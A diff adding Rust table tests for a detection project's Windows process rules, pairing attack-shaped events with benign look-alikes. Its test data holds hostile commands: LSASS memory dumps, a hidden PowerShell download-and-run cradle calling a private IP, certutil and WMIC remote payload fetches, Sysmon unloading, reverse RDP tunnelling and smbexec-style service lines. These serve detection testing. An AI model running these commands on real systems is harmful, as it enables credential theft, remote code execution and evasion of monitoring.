@@ -1,0 +1,1053 @@
+//! Table tests of the project's process rules (`rules/sigma/`): events each rule must meet,
+//! and look-alikes of normal work it must leave alone.
+
+use serde_json::{Value, json};
+use soc_core::Alert;
+use soc_core::alert::Limits;
+
+use super::*;
+
+/// Titles of the rules in `set` one Windows event (dev-set raw_log shape) meets.
+fn titles(
+    set: &RuleSet,
+    provider: &str,
+    channel: &str,
+    event_id: u32,
+    data: &Value,
+) -> Vec<String> {
+    let a = Alert::from_json(
+        &json!({"alert_id": "P-1", "timestamp": "2026-04-19T03:14:22Z", "source": "edr",
+                "severity": "high", "title": "Windows event",
+                "raw_log": {"log_source": "windows_eventlog", "provider": provider,
+                            "channel": channel, "event_id": event_id,
+                            "computer": "host1.example.corp", "event_data": data}})
+        .to_string(),
+        &Limits::default(),
+    )
+    .expect("alert");
+    set.match_alert(&a)
+        .into_iter()
+        .map(|m| m.rule.title.clone())
+        .collect()
+}
+
+/// A Sysmon process creation (event 1).
+fn proc(set: &RuleSet, image: &str, cmd: &str, parent: &str, parent_cmd: &str) -> Vec<String> {
+    proc_as(set, image, cmd, parent, parent_cmd, "EXAMPLE\\bob")
+}
+
+fn proc_as(
+    set: &RuleSet,
+    image: &str,
+    cmd: &str,
+    parent: &str,
+    parent_cmd: &str,
+    user: &str,
+) -> Vec<String> {
+    let name = image.rsplit('\\').next().unwrap_or(image);
+    titles(
+        set,
+        "Microsoft-Windows-Sysmon",
+        "Microsoft-Windows-Sysmon/Operational",
+        1,
+        &json!({"Image": image, "OriginalFileName": name, "CommandLine": cmd,
+               "ParentImage": parent, "ParentCommandLine": parent_cmd, "User": user,
+               "CurrentDirectory": "C:\\Windows\\system32\\", "IntegrityLevel": "High"}),
+    )
+}
+
+/// A Security 4688 process creation (no parent command line, no original file name).
+fn proc_4688(set: &RuleSet, image: &str, cmd: &str, parent: &str) -> Vec<String> {
+    titles(
+        set,
+        "Microsoft-Windows-Security-Auditing",
+        "Security",
+        4688,
+        &json!({"NewProcessName": image, "CommandLine": cmd, "ParentProcessName": parent,
+               "SubjectUserName": "bob", "SubjectDomainName": "EXAMPLE",
+               "TokenElevationType": "%%1937", "MandatoryLabel": "S-1-16-12288"}),
+    )
+}
+
+/// A System 7045 service installation.
+fn service(set: &RuleSet, name: &str, image_path: &str) -> Vec<String> {
+    titles(
+        set,
+        "Service Control Manager",
+        "System",
+        7045,
+        &json!({"ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
+               "StartType": "demand start", "AccountName": "LocalSystem"}),
+    )
+}
+
+#[track_caller]
+fn has(got: &[String], want: &str, case: &str) {
+    assert!(
+        got.iter().any(|t| t == want),
+        "{case}: want {want:?}, got {got:?}"
+    );
+}
+
+#[track_caller]
+fn lacks(got: &[String], unwanted: &str, case: &str) {
+    assert!(
+        !got.iter().any(|t| t == unwanted),
+        "{case}: did not want {unwanted:?}, got {got:?}"
+    );
+}
+
+const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
+const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+const EXPLORER: &str = "C:\\Windows\\explorer.exe";
+
+#[test]
+fn lsass_dumps_by_builtin_and_known_tools_are_caught_and_ordinary_dumps_are_not() {
+    let set = RuleSet::embedded();
+    let rdr = "Process Memory Dumped With The Windows RdrLeakDiag Tool";
+    let sql = "Full Process Memory Dump Requested From SQLDumper Outside SQL Server";
+    let dev = "Full Memory Dump Written By A .NET Or Visual Studio Dump Utility Run By Hand";
+    let named = "Command Line Names LSASS And A Memory Dump File";
+    let ppl = "Protected LSASS Dumped Through A PPL Bypass Tool";
+    let nano = "Nanodump-Style LSASS Dump Options On A Command Line";
+    let known = "Known LSASS Memory Dumping Tool Started";
+
+    let rdr_cmd = "rdrleakdiag.exe /p 712 /o C:\\ProgramData\\x\\ /fullmemdmp /wait 1";
+    has(
+        &proc_4688(&set, "C:\\Windows\\System32\\rdrleakdiag.exe", rdr_cmd, CMD),
+        rdr,
+        "rdrleakdiag /fullmemdmp (4688)",
+    );
+    has(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\rdrleakdiag.exe",
+            "rdrleakdiag /p 712 /o C:\\t /memdmp",
+            CMD,
+            "cmd.exe",
+        ),
+        rdr,
+        "rdrleakdiag /memdmp",
+    );
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\rdrleakdiag.exe",
+            "rdrleakdiag.exe /?",
+            CMD,
+            "cmd.exe",
+        ),
+        rdr,
+        "rdrleakdiag help",
+    );
+
+    let sqldumper = "C:\\Program Files\\Microsoft SQL Server\\150\\Shared\\SqlDumper.exe";
+    has(
+        &proc(
+            &set,
+            sqldumper,
+            "sqldumper.exe 712 0 0x01100",
+            CMD,
+            "cmd.exe",
+        ),
+        sql,
+        "sqldumper full dump by hand",
+    );
+    lacks(
+        &proc(
+            &set,
+            sqldumper,
+            "sqldumper.exe 4242 0 0x01100",
+            "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
+            "sqlservr.exe -sMSSQLSERVER",
+        ),
+        sql,
+        "SQL Server dumping itself",
+    );
+    lacks(
+        &proc(
+            &set,
+            sqldumper,
+            "sqldumper.exe 4242 0 0x0120",
+            CMD,
+            "cmd.exe",
+        ),
+        sql,
+        "sqldumper mini dump",
+    );
+
+    let createdump =
+        "C:\\Program Files\\dotnet\\shared\\Microsoft.NETCore.App\\8.0.1\\createdump.exe";
+    has(
+        &proc(
+            &set,
+            createdump,
+            "createdump.exe -u -f C:\\ProgramData\\o.bin 712",
+            PS,
+            "powershell",
+        ),
+        dev,
+        "createdump full by hand",
+    );
+    lacks(
+        &proc(
+            &set,
+            createdump,
+            "createdump.exe -u -f C:\\dumps\\app.dmp 5120",
+            "C:\\Program Files\\Microsoft Visual Studio\\2022\\Common7\\IDE\\devenv.exe",
+            "devenv.exe",
+        ),
+        dev,
+        "Visual Studio dumping the debuggee",
+    );
+
+    has(
+        &proc(
+            &set,
+            "C:\\Users\\Public\\PPLdump64.exe",
+            "PPLdump64.exe -v lsass C:\\Users\\Public\\l.dmp",
+            CMD,
+            "cmd.exe",
+        ),
+        ppl,
+        "PPLdump by name",
+    );
+    has(
+        &proc(
+            &set,
+            "C:\\Users\\Public\\tool.exe",
+            "tool.exe lsass.exe C:\\Windows\\Temp\\out.dmp",
+            CMD,
+            "cmd.exe",
+        ),
+        named,
+        "lsass and a .dmp path on an unknown tool",
+    );
+    has(
+        &proc(
+            &set,
+            "C:\\Users\\Public\\n.exe",
+            "n.exe --write C:\\Windows\\Temp\\x.bin --valid --fork",
+            CMD,
+            "cmd.exe",
+        ),
+        nano,
+        "nanodump options",
+    );
+    has(
+        &proc(&set, "C:\\Temp\\Dumpert.exe", "Dumpert.exe", CMD, "cmd.exe"),
+        known,
+        "Dumpert by name",
+    );
+    // Look-alikes: WER writing a crash dump, a tool listing lsass, a dump of another process.
+    for (image, cmd, case) in [
+        (
+            "C:\\Windows\\System32\\WerFault.exe",
+            "WerFault.exe -u -p 712 -s 184 lsass C:\\ProgramData\\x.dmp",
+            "WER",
+        ),
+        (
+            "C:\\Windows\\System32\\tasklist.exe",
+            "tasklist /fi \"imagename eq lsass.exe\"",
+            "tasklist",
+        ),
+        (
+            "C:\\Tools\\procdump64.exe",
+            "procdump64.exe -e -ma app.exe C:\\dumps\\app.dmp",
+            "procdump of an app",
+        ),
+        (
+            "C:\\Program Files\\Git\\bin\\git.exe",
+            "git push --write-tree --forks",
+            "git",
+        ),
+    ] {
+        let got = proc(&set, image, cmd, CMD, "cmd.exe");
+        for t in [named, nano, ppl, known, rdr] {
+            lacks(&got, t, case);
+        }
+    }
+}
+
+#[test]
+fn winrm_session_children_are_remote_shells_and_local_consoles_are_not() {
+    let set = RuleSet::embedded();
+    let want = "WinRM Remote Session Runs A Shell, LOLBin Or Discovery Command";
+    let host = "C:\\Windows\\System32\\wsmprovhost.exe";
+    let host_cmd = "C:\\Windows\\system32\\wsmprovhost.exe -Embedding";
+    for (image, cmd) in [
+        (
+            "C:\\Windows\\System32\\net.exe",
+            "\"C:\\Windows\\system32\\net.exe\" localgroup administrators",
+        ),
+        ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"),
+        (CMD, "cmd.exe /c whoami /all"),
+        (
+            "C:\\Windows\\System32\\certutil.exe",
+            "certutil -urlcache -f http://x/y y",
+        ),
+    ] {
+        has(&proc(&set, image, cmd, host, host_cmd), want, cmd);
+    }
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\ipconfig.exe",
+            "ipconfig /all",
+            CMD,
+            "cmd.exe",
+        ),
+        want,
+        "ipconfig from a local console",
+    );
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\conhost.exe",
+            "conhost.exe 0xffffffff -ForceV1",
+            host,
+            host_cmd,
+        ),
+        want,
+        "the session's console host",
+    );
+    lacks(
+        &proc(
+            &set,
+            "C:\\Program Files\\App\\app.exe",
+            "app.exe --status",
+            host,
+            host_cmd,
+        ),
+        want,
+        "an installed program run remotely",
+    );
+}
+
+#[test]
+fn dcom_automation_parents_starting_shells_are_lateral_movement_and_desktop_use_is_not() {
+    let set = RuleSet::embedded();
+    let mmc = "MMC Started Through DCOM Spawns A Shell Or LOLBin";
+    let office = "Office Application Started For Automation Spawns A Shell Or LOLBin";
+    let explorer = "Explorer Started As A COM Server Spawns A Shell Or Script Host";
+    let cradle = "PowerShell Command Line Downloads Content And Runs It";
+    let mmc_exe = "C:\\Windows\\System32\\mmc.exe";
+    let excel = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
+    let ps_in_cmd = "\"C:\\Windows\\System32\\cmd.exe\" /c powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5:8080/a')\"";
+
+    let got = proc(
+        &set,
+        CMD,
+        ps_in_cmd,
+        mmc_exe,
+        "\"C:\\Windows\\system32\\mmc.exe\" -Embedding",
+    );
+    has(&got, mmc, "MMC20 ExecuteShellCommand");
+    has(&got, cradle, "cradle inside cmd's command line");
+    has(
+        &proc(
+            &set,
+            PS,
+            "powershell -c calc",
+            excel,
+            "\"EXCEL.EXE\" /automation -Embedding",
+        ),
+        office,
+        "Excel.Application",
+    );
+    has(
+        &proc(
+            &set,
+            CMD,
+            "cmd.exe /c whoami",
+            EXPLORER,
+            "C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding",
+        ),
+        explorer,
+        "ShellBrowserWindow",
+    );
+    // Look-alikes: an admin's console opened from mmc, a user opening Excel and running a
+    // batch file, cmd from the desktop, a cmd line that just mentions PowerShell.
+    let got = proc(
+        &set,
+        CMD,
+        "cmd.exe",
+        mmc_exe,
+        "\"C:\\Windows\\system32\\mmc.exe\" C:\\Windows\\system32\\compmgmt.msc",
+    );
+    lacks(&got, mmc, "console opened from compmgmt");
+    let got = proc(
+        &set,
+        CMD,
+        "cmd /c report.bat",
+        excel,
+        "\"EXCEL.EXE\" \"C:\\Users\\bob\\Documents\\q3.xlsx\"",
+    );
+    lacks(&got, office, "Excel opened by the user");
+    let got = proc(&set, CMD, "cmd.exe", EXPLORER, "C:\\Windows\\Explorer.EXE");
+    lacks(&got, explorer, "cmd from the desktop shell");
+    let got = proc(
+        &set,
+        CMD,
+        "cmd /c powershell -File C:\\Scripts\\update-help.ps1",
+        EXPLORER,
+        "C:\\Windows\\Explorer.EXE",
+    );
+    lacks(&got, cradle, "cmd starting a local PowerShell script");
+    let got = proc(
+        &set,
+        CMD,
+        "cmd /c echo Invoke-WebRequest is documented > notes.txt",
+        EXPLORER,
+        "C:\\Windows\\Explorer.EXE",
+    );
+    lacks(&got, cradle, "cmd without powershell");
+}
+
+#[test]
+fn persistence_evasion_and_proxy_execution_command_lines_are_caught_and_admin_work_is_not() {
+    let set = RuleSet::embedded();
+    let netsh = "C:\\Windows\\System32\\netsh.exe";
+    let helper = "Netsh Helper DLL Registered From The Command Line";
+    has(
+        &proc(
+            &set,
+            netsh,
+            "netsh  add helper C:\\Users\\Public\\nethlp.dll",
+            CMD,
+            "cmd.exe",
+        ),
+        helper,
+        "netsh add helper",
+    );
+    lacks(
+        &proc(
+            &set,
+            netsh,
+            "netsh interface ip show config",
+            CMD,
+            "cmd.exe",
+        ),
+        helper,
+        "netsh show",
+    );
+    lacks(
+        &proc(
+            &set,
+            netsh,
+            "netsh advfirewall firewall add rule name=x dir=in action=allow program=C:\\App\\a.dll",
+            CMD,
+            "cmd.exe",
+        ),
+        helper,
+        "firewall rule",
+    );
+
+    let fltmc = "C:\\Windows\\System32\\fltMC.exe";
+    let unload = "Sysmon Or Defender Filter Driver Unloaded With fltMC";
+    let uninstall = "Sysmon Uninstalled From The Command Line";
+    has(
+        &proc(&set, fltmc, "fltMC.exe  unload SysmonDrv", CMD, "cmd.exe"),
+        unload,
+        "fltmc unload SysmonDrv",
+    );
+    lacks(
+        &proc(&set, fltmc, "fltmc filters", CMD, "cmd.exe"),
+        unload,
+        "fltmc filters",
+    );
+    lacks(
+        &proc(&set, fltmc, "fltmc unload bindflt", CMD, "cmd.exe"),
+        unload,
+        "unload another filter",
+    );
+    has(
+        &proc(
+            &set,
+            "C:\\Windows\\Sysmon64.exe",
+            "Sysmon64.exe -u force",
+            CMD,
+            "cmd.exe",
+        ),
+        uninstall,
+        "sysmon -u",
+    );
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\Sysmon64.exe",
+            "Sysmon64.exe -c C:\\cfg\\sysmon.xml",
+            CMD,
+            "cmd.exe",
+        ),
+        uninstall,
+        "sysmon -c",
+    );
+
+    let attrib = "C:\\Windows\\System32\\attrib.exe";
+    let hide = "Executable Or Script In A User-Writable Folder Hidden With Attrib";
+    has(
+        &proc(
+            &set,
+            attrib,
+            "attrib  +h +s C:\\Users\\Public\\Libraries\\svchost.exe",
+            CMD,
+            "cmd.exe",
+        ),
+        hide,
+        "attrib +h payload",
+    );
+    lacks(
+        &proc(
+            &set,
+            attrib,
+            "attrib +h +s C:\\Users\\bob\\Desktop\\desktop.ini",
+            CMD,
+            "cmd.exe",
+        ),
+        hide,
+        "desktop.ini",
+    );
+    lacks(
+        &proc(
+            &set,
+            attrib,
+            "attrib -h C:\\Users\\bob\\AppData\\Local\\x.exe",
+            CMD,
+            "cmd.exe",
+        ),
+        hide,
+        "unhide",
+    );
+    lacks(
+        &proc(
+            &set,
+            attrib,
+            "attrib +r D:\\Builds\\setup.exe",
+            CMD,
+            "cmd.exe",
+        ),
+        hide,
+        "read-only on a build",
+    );
+
+    let sysparent = "Core System Process Is The Parent Of A Shell Or LOLBin";
+    let winlogon = "Winlogon Is The Parent Of A Shell Or Script Host";
+    has(
+        &proc(
+            &set,
+            CMD,
+            "\"C:\\Windows\\system32\\cmd.exe\"",
+            "C:\\Windows\\System32\\lsass.exe",
+            "C:\\Windows\\system32\\lsass.exe",
+        ),
+        sysparent,
+        "lsass parent",
+    );
+    has(
+        &proc_4688(
+            &set,
+            PS,
+            "powershell -nop",
+            "C:\\Windows\\System32\\spoolsv.exe",
+        ),
+        sysparent,
+        "spoolsv parent (4688)",
+    );
+    has(
+        &proc(
+            &set,
+            CMD,
+            "cmd.exe",
+            "C:\\Windows\\System32\\winlogon.exe",
+            "winlogon.exe",
+        ),
+        winlogon,
+        "winlogon parent",
+    );
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\userinit.exe",
+            "userinit.exe",
+            "C:\\Windows\\System32\\winlogon.exe",
+            "winlogon.exe",
+        ),
+        winlogon,
+        "userinit",
+    );
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\WerFault.exe",
+            "WerFault.exe -u -p 712",
+            "C:\\Windows\\System32\\lsass.exe",
+            "lsass.exe",
+        ),
+        sysparent,
+        "WER under lsass",
+    );
+    lacks(
+        &proc(&set, CMD, "cmd.exe", EXPLORER, "explorer.exe"),
+        sysparent,
+        "cmd from explorer",
+    );
+
+    let pcalua = "C:\\Windows\\System32\\pcalua.exe";
+    let pca_user =
+        "Program Compatibility Assistant Launches A Program From A User-Writable Folder Or Share";
+    let pca_any = "Program Compatibility Assistant Used To Launch A Program";
+    has(
+        &proc_4688(
+            &set,
+            pcalua,
+            "pcalua.exe -a C:\\Users\\Public\\update.exe",
+            CMD,
+        ),
+        pca_user,
+        "pcalua user folder",
+    );
+    has(
+        &proc_4688(&set, pcalua, "pcalua.exe -a \\\\fs1\\share\\x.exe", CMD),
+        pca_user,
+        "pcalua share",
+    );
+    let got = proc(
+        &set,
+        pcalua,
+        "pcalua.exe -a \"C:\\Program Files (x86)\\Old\\old.exe\"",
+        EXPLORER,
+        "explorer.exe",
+    );
+    has(&got, pca_any, "pcalua installed program");
+    lacks(&got, pca_user, "pcalua installed program");
+    lacks(
+        &proc(&set, pcalua, "pcalua.exe", EXPLORER, "explorer.exe"),
+        pca_any,
+        "pcalua without -a",
+    );
+
+    let msxsl = "Msxsl Transforms XML With An XSL Stylesheet";
+    let wmic_xsl = "WMIC Output Formatted With A Remote Or Non-Built-In XSL Stylesheet";
+    let wmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
+    has(
+        &proc(
+            &set,
+            "C:\\Users\\bob\\AppData\\Local\\Temp\\msxsl.exe",
+            "msxsl.exe http://x/c.xml http://x/s.xsl",
+            CMD,
+            "cmd.exe",
+        ),
+        msxsl,
+        "msxsl",
+    );
+    has(
+        &proc(
+            &set,
+            wmic,
+            "wmic  os get /format:\"http://198.51.100.9/payload.xsl\"",
+            CMD,
+            "cmd.exe",
+        ),
+        wmic_xsl,
+        "wmic remote xsl",
+    );
+    has(
+        &proc(
+            &set,
+            wmic,
+            "wmic process list /format:C:\\Users\\Public\\p.xsl",
+            CMD,
+            "cmd.exe",
+        ),
+        wmic_xsl,
+        "wmic local custom xsl",
+    );
+    lacks(
+        &proc(
+            &set,
+            wmic,
+            "wmic os get caption /format:list",
+            CMD,
+            "cmd.exe",
+        ),
+        wmic_xsl,
+        "built-in format",
+    );
+    lacks(
+        &proc(
+            &set,
+            wmic,
+            "wmic qfe list /format:\"%WINDIR%\\System32\\wbem\\en-US\\csv.xsl\"",
+            CMD,
+            "cmd.exe",
+        ),
+        wmic_xsl,
+        "built-in stylesheet path",
+    );
+
+    let fwd = "SSH Client Forwards A Port Through A Tunnel";
+    let rdp = "SSH Client Tunnels RDP Through A Port Forward";
+    let plink = "C:\\Users\\bob\\AppData\\Local\\Temp\\plink.exe";
+    let got = proc(
+        &set,
+        plink,
+        "plink.exe 198.51.100.66 -P 22 -l root -pw x -R 12345:127.0.0.1:3389",
+        CMD,
+        "cmd.exe",
+    );
+    has(&got, rdp, "plink -R RDP");
+    lacks(&got, fwd, "plink -R RDP");
+    has(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
+            "ssh -D 1080 -N user@203.0.113.5",
+            CMD,
+            "cmd.exe",
+        ),
+        fwd,
+        "ssh -D",
+    );
+    for cmd in [
+        "ssh -l admin 10.0.0.5",
+        "ssh admin@10.0.0.5 -p 2222",
+        "plink.exe -ssh -l root -pw x 10.0.0.5",
+    ] {
+        let got = proc(&set, plink, cmd, CMD, "cmd.exe");
+        lacks(&got, fwd, cmd);
+        lacks(&got, rdp, cmd);
+    }
+
+    let msbuild = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe";
+    let mb_path = "MSBuild Builds A Project From A Public, Temporary Or Shared-Data Folder";
+    let mb_parent = "MSBuild Started By An Office Application, Script Host Or WMI";
+    has(
+        &proc(
+            &set,
+            msbuild,
+            "MSBuild.exe C:\\Users\\Public\\build.csproj",
+            CMD,
+            "cmd.exe",
+        ),
+        mb_path,
+        "msbuild public project",
+    );
+    has(
+        &proc(
+            &set,
+            msbuild,
+            "MSBuild.exe C:\\Users\\bob\\Documents\\x.xml",
+            "C:\\Windows\\System32\\wscript.exe",
+            "wscript x.js",
+        ),
+        mb_parent,
+        "msbuild from wscript",
+    );
+    let got = proc(
+        &set,
+        msbuild,
+        "MSBuild.exe C:\\Users\\dev\\source\\repos\\App\\App.sln /t:Build",
+        CMD,
+        "cmd.exe",
+    );
+    lacks(&got, mb_path, "developer build");
+    lacks(&got, mb_parent, "developer build");
+    lacks(
+        &proc(
+            &set,
+            msbuild,
+            "MSBuild.exe C:\\Users\\dev\\AppData\\Local\\Temp\\restore.proj",
+            "C:\\Program Files\\dotnet\\dotnet.exe",
+            "dotnet build",
+        ),
+        mb_path,
+        "dotnet restore project",
+    );
+
+    let uac = "Auto-Elevating Windows Binary Is The Parent Of A Shell Or Script Host";
+    has(
+        &proc(
+            &set,
+            PS,
+            "powershell.exe -nop",
+            "C:\\Windows\\System32\\ComputerDefaults.exe",
+            "ComputerDefaults.exe",
+        ),
+        uac,
+        "ComputerDefaults",
+    );
+    has(
+        &proc(
+            &set,
+            CMD,
+            "cmd.exe",
+            "C:\\Windows\\System32\\fodhelper.exe",
+            "fodhelper.exe",
+        ),
+        uac,
+        "fodhelper",
+    );
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\mmc.exe",
+            "mmc.exe eventvwr.msc",
+            "C:\\Windows\\System32\\eventvwr.exe",
+            "eventvwr.exe",
+        ),
+        uac,
+        "event viewer opening MMC",
+    );
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\control.exe",
+            "control.exe /name Microsoft.BackupAndRestoreCenter",
+            "C:\\Windows\\System32\\sdclt.exe",
+            "sdclt.exe",
+        ),
+        uac,
+        "sdclt opening control panel",
+    );
+
+    let pipe = "Command Interpreter Echoes Into A Local Named Pipe";
+    has(
+        &proc_as(
+            &set,
+            CMD,
+            "cmd.exe /c echo pxgzke > \\\\.\\pipe\\pxgzke",
+            "C:\\Windows\\System32\\services.exe",
+            "services.exe",
+            "NT AUTHORITY\\SYSTEM",
+        ),
+        pipe,
+        "getsystem echo",
+    );
+    lacks(
+        &proc(
+            &set,
+            CMD,
+            "cmd /c echo done > C:\\logs\\status.txt",
+            CMD,
+            "cmd.exe",
+        ),
+        pipe,
+        "echo to a file",
+    );
+    lacks(
+        &proc(
+            &set,
+            CMD,
+            "cmd /c type \\\\.\\pipe\\docker_engine",
+            CMD,
+            "cmd.exe",
+        ),
+        pipe,
+        "reading a pipe without echo",
+    );
+}
+
+#[test]
+fn domain_discovery_and_web_server_recon_are_caught_and_local_lookups_are_not() {
+    let set = RuleSet::embedded();
+    let net = "C:\\Windows\\System32\\net.exe";
+    let users = "Domain User Accounts Listed With Net";
+    let groups = "Domain Groups Or Privileged Group Members Listed With Net";
+    has(
+        &proc(&set, net, "net  user /domain", CMD, "cmd.exe"),
+        users,
+        "net user /domain",
+    );
+    has(
+        &proc(
+            &set,
+            net,
+            "net group \"Domain Admins\" /domain",
+            CMD,
+            "cmd.exe",
+        ),
+        groups,
+        "net group domain admins",
+    );
+    has(
+        &proc(
+            &set,
+            net,
+            "net localgroup administrators /domain",
+            CMD,
+            "cmd.exe",
+        ),
+        groups,
+        "net localgroup /domain",
+    );
+    let got = proc(&set, net, "net localgroup administrators", CMD, "cmd.exe");
+    lacks(&got, groups, "local group");
+    lacks(&got, users, "local group");
+    lacks(
+        &proc(&set, net, "net user bob", CMD, "cmd.exe"),
+        users,
+        "local user",
+    );
+    lacks(
+        &proc(
+            &set,
+            net,
+            "net user jdoe NewPass1! /domain /add",
+            CMD,
+            "cmd.exe",
+        ),
+        users,
+        "account creation",
+    );
+
+    let web = "Web Server Or Application Server Process Starts A Shell";
+    let w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
+    for child in [
+        "C:\\Windows\\System32\\tasklist.exe",
+        "C:\\Windows\\System32\\quser.exe",
+        "C:\\Windows\\System32\\whoami.exe",
+    ] {
+        has(
+            &proc(&set, child, child, w3wp, "w3wp.exe -ap \"DefaultAppPool\""),
+            web,
+            child,
+        );
+    }
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\tasklist.exe",
+            "tasklist",
+            CMD,
+            "cmd.exe",
+        ),
+        web,
+        "tasklist from a console",
+    );
+    lacks(
+        &proc(
+            &set,
+            "C:\\Windows\\System32\\csc.exe",
+            "csc.exe /noconfig @x.cmdline",
+            w3wp,
+            "w3wp.exe",
+        ),
+        web,
+        "ASP.NET compiling a page",
+    );
+
+    let wrapper = "Web Shell Manager Command Wrapper On A Command Line";
+    let apppool = "Whoami Run Under An IIS Application Pool Identity";
+    let chopper = "cmd.exe /c \"cd /d \"C:\\inetpub\\wwwroot\\\"&whoami&echo [S]&cd&echo [E]\"";
+    let got = proc_as(
+        &set,
+        "C:\\Windows\\System32\\whoami.exe",
+        "whoami",
+        CMD,
+        chopper,
+        "IIS APPPOOL\\DefaultAppPool",
+    );
+    has(&got, wrapper, "whoami under a chopper cmd");
+    has(&got, apppool, "whoami as an app pool");
+    let got = proc(
+        &set,
+        "C:\\Windows\\System32\\whoami.exe",
+        "whoami /groups",
+        CMD,
+        "cmd.exe",
+    );
+    lacks(&got, apppool, "whoami by a user");
+    lacks(&got, wrapper, "whoami by a user");
+    lacks(
+        &proc(
+            &set,
+            CMD,
+            "cmd /c echo [START] & build.bat & echo [END]",
+            CMD,
+            "cmd.exe",
+        ),
+        wrapper,
+        "build script markers",
+    );
+}
+
+#[test]
+fn remote_execution_services_get_their_own_rules_and_installed_services_do_not() {
+    let set = RuleSet::embedded();
+    let psexec = "PsExec-Style Remote Execution Service Installed";
+    let stub = "Service Installed From A Temporary Or User Folder Or As A Randomly Named Windows-Folder Stub";
+    let smbexec =
+        "Service Installed That Echoes A Command Into A Batch File With Output To A Local Share";
+    let pipe = "Service Installed That Echoes Into A Named Pipe";
+    let shell = "Service Installed With A Shell Command As Its Binary";
+
+    for (name, path) in [
+        ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
+        ("PAExec-4242-JUMP01", "%SystemRoot%\\PAExec-4242-JUMP01.exe"),
+        ("RemComSvc", "%SystemRoot%\\RemComSvc.exe"),
+    ] {
+        let got = service(&set, name, path);
+        has(&got, psexec, name);
+        lacks(&got, stub, name);
+    }
+    // A random stub name is still the high-level stub rule, not the PsExec one.
+    let got = service(&set, "xKqPzTrw", "%SystemRoot%\\xKqPzTrw.exe");
+    has(&got, stub, "random stub");
+    lacks(&got, psexec, "random stub");
+
+    for path in [
+        "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat",
+        "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %SYSTEMROOT%\\wdrSgrnp.bat & %COMSPEC% /Q /c %SYSTEMROOT%\\wdrSgrnp.bat & del %SYSTEMROOT%\\wdrSgrnp.bat",
+    ] {
+        has(&service(&set, "BTOBTO", path), smbexec, path);
+    }
+    let got = service(
+        &set,
+        "pxgzke",
+        "cmd.exe /c echo pxgzke > \\\\.\\pipe\\pxgzke",
+    );
+    has(&got, pipe, "getsystem service");
+    lacks(&got, smbexec, "getsystem service");
+    let output = "Command Output Redirected Into A Loopback Admin Share";
+    let wmiprvse = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
+    for cmd in [
+        "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1558370642.34 2>&1",
+        "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1558370642.34 2>&1",
+    ] {
+        has(
+            &proc(&set, CMD, cmd, wmiprvse, "wmiprvse.exe -Embedding"),
+            output,
+            cmd,
+        );
+    }
+    for cmd in [
+        "cmd /c dir \\\\127.0.0.1\\C$\\Windows",
+        "cmd /c backup.bat > D:\\logs\\backup.log 2>&1",
+    ] {
+        lacks(&proc(&set, CMD, cmd, CMD, "cmd.exe"), output, cmd);
+    }
+    // DEV-0018's shape (a bare cmd.exe service) keeps its rule.
+    has(
+        &service(&set, "spoolfool", "cmd.exe"),
+        shell,
+        "bare cmd.exe service",
+    );
+
+    for (name, path) in [
+        (
+            "VendorAgent",
+            "\"C:\\Program Files\\Vendor\\Agent\\agent.exe\" -service",
+        ),
+        ("BackupSvc", "C:\\Program Files\\Backup\\bin\\svc.exe /run"),
+        (
+            "MSSQLSERVER",
+            "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER",
+        ),
+    ] {
+        let got = service(&set, name, path);
+        for t in [psexec, stub, smbexec, pipe] {
+            lacks(&got, t, name);
+        }
+    }
+}
